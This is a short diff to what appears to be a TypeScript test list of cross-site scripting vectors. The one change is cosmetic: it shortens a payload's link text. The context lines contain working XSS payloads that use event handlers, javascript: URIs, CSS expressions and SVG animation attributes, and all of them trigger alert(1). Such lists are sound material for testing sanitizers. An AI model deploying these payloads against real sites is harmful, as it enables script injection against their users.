@@ -169,7 +169,7 @@ export const XSS_VECTORS: readonly string[] = [
   '<body oninput=alert(1)><input autofocus>',
   '<frameset onload=alert(1)>',
   '<style>*{x:expression(write(1))}</style><p style="-o-link:\'javascript:alert(1)\';-o-link-source:current">X',
-  '<a style="pointer-events:none;position:absolute;"><a href="javascript:alert(1);">XXX</a></a>',
+  '<a style="pointer-events:none;position:absolute;"><a href="javascript:alert(1);">x</a></a>',
   '<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>',
   '<svg><set attributeName="onmouseover" to="alert(1)"/><animate attributeName="onunload" to="alert(1)"/></svg>',
   '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a><circle r=40 /><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&" /></a></svg>',
